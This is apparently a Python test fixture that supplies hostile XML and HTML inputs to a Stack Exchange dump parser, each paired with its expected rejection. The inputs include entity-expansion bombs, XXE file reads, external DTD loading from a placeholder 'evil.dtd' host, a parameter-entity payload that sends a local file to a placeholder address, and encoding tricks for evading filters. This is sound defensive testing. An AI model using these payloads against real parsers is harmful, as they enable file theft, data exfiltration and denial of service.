"""Attacks by XML, as files of a Stack Exchange dump, and what becomes of each."""

from html import escape

LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "ha" * 10}">\n' for n in range(10))
REFUSED = "entity_refused"
BROKEN_TOO = "broken_xml entity_refused"
"""A document type over several lines: every line of it is refused."""

DECLARED = {
    "billion laughs": (f"<!DOCTYPE comments [\n{LAUGHS}]>", "&l9;", REFUSED),
    "billion laughs on one line": (f"<!DOCTYPE comments [{LAUGHS}]>".replace("\n", ""), "&l9;", REFUSED),
    "quadratic blowup": (f'<!DOCTYPE comments [<!ENTITY a "{"a" * 50_000}">]>', "&a;" * 5_000, REFUSED),
    "entity that is a file": ('<!DOCTYPE comments [<!ENTITY x SYSTEM "{file}">]>', "&x;", REFUSED),
    "entity that is a file address": ('<!DOCTYPE comments [<!ENTITY x SYSTEM "file://{file}">]>', "&x;", REFUSED),
    "entity from the network": ('<!DOCTYPE comments [<!ENTITY x SYSTEM "{address}/x">]>', "&x;", REFUSED),
    "public entity": ('<!DOCTYPE comments [<!ENTITY x PUBLIC "any" "file://{file}">]>', "&x;", REFUSED),
    "document type from the network": ('<!DOCTYPE comments SYSTEM "{address}/evil.dtd">', "x", REFUSED),
    "document type from a file": ('<!DOCTYPE comments SYSTEM "file://{file}">', "x", REFUSED),
    "parameter entity": ('<!DOCTYPE comments [<!ENTITY % p SYSTEM "{address}/p.dtd"> %p;]>', "&sent;", REFUSED),
    "parameter entity that builds another":
        ('<!DOCTYPE comments [<!ENTITY % a "<!ENTITY x SYSTEM \'file://{file}\'>"> %a;]>', "&x;", REFUSED),
    "parameter entity that sends a file":
        ('<!DOCTYPE comments [<!ENTITY % f SYSTEM "file://{file}">\n<!ENTITY % s "<!ENTITY send SYSTEM '
         "'{address}/?%f;'>\">\n%s;]>", "&send;", BROKEN_TOO),
    "entities that name each other": ('<!DOCTYPE comments [<!ENTITY a "&b;"><!ENTITY b "&a;">]>', "&a;", REFUSED),
    "notation": ('<!DOCTYPE comments [<!NOTATION n SYSTEM "file://{file}">]>', "x", REFUSED),
    "default attribute": ('<!DOCTYPE comments [<!ATTLIST row UserId CDATA "8">]>', "x", REFUSED),
    "inclusion":
        ('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{file}" parse="text"/>', "x", "broken_xml"),
    "stylesheet": ('<?xml-stylesheet type="text/xsl" href="{address}/x.xsl"?>', "x", "kept"),
    "undeclared entity in a row": ("", "&x;", REFUSED),
    "NUL as a reference": ("", "&#0;", "broken_xml"),
    "half a surrogate pair as a reference": ("", "&#xD800;", "broken_xml"),
    "reference beyond Unicode": ("", "&#x110000;", "broken_xml"),
    "second element on the line": ("", 'x" /><row Id="1', "broken_xml"),
    "document type behind a row": ("", 'x" /><!DOCTYPE row [<!ENTITY x "y">]><row Id="&x;', "broken_xml"),
    "attribute given twice": ("", 'x" Id="99', "broken_xml"),
    "angle bracket in an attribute": ("", "<script>", "broken_xml"),
    "20,000 attributes": ("", "".join(f'x" a{n}="' for n in range(20_000)), "kept"),
    "text of 2 MB": ("", "x" * 2_000_000, "field_too_large"),
    "line of 9 MB": ("", "x" * 9_000_000, "field_too_large"),
}
"""What stands before the rows, the text of the one row, and what becomes of the file's rows. What is declared is
refused line by line, and the row that would use it is refused for itself."""

ENCODED = {"UTF-16": "utf-16", "UTF-16 little-endian": "utf-16-le", "UTF-16 big-endian": "utf-16-be",
           "UTF-32": "utf-32", "UTF-7": "utf-7", "EBCDIC": "cp500"}
"""Encodings in which a document type passes a filter of bytes, and a parser then understands it."""

BODIES = {
    "document type in HTML": '<!DOCTYPE p [<!ENTITY x SYSTEM "file://{file}">]><p>&x;</p>',
    "frame and image in HTML": '<iframe src="file://{file}"></iframe><img src="{address}/i"><p>a</p>',
    "stylesheet in HTML": '<link rel="stylesheet" href="{address}/s"><style>@import "{address}/t"</style>a',
    "30,000 open elements": "<div>" * 30_000,
    "30,000 open formatting elements": "<b><i>" * 15_000,
    "unclosed comment": "<!-- a",
    "only a comment": "<!-- a -->",
    "processing instruction": "<?php echo 1 ?>a",
}
"""HTML of a post, which is turned into text."""


def comments(before: str, text: str, number: int) -> str:
    """A file of one comment."""
    row = f'<row Id="{number}" PostId="9" UserId="7" CreationDate="2030-01-01T12:00:00.000" Text="{text}" />'
    return f"{before}\n<comments>\n{row}\n</comments>\n"


def encoded(encoding: str, number: int) -> bytes:
    """A file of one comment that uses an entity of a file, in an encoding."""
    text = comments('<!DOCTYPE comments [<!ENTITY x "y">]>', "&x;", number)
    return f'<?xml version="1.0" encoding="{encoding}"?>\n{text}'.encode(encoding)


def post(body: str, number: int) -> str:
    """A file of one question with this HTML."""
    row = (f'<row Id="{number}" PostTypeId="1" OwnerUserId="7" CreationDate="2030-01-01T12:00:00.000" Title="t" '
           f'Body="{escape(body)}" Tags="" />')
    return f"<posts>\n{row}\n</posts>\n"
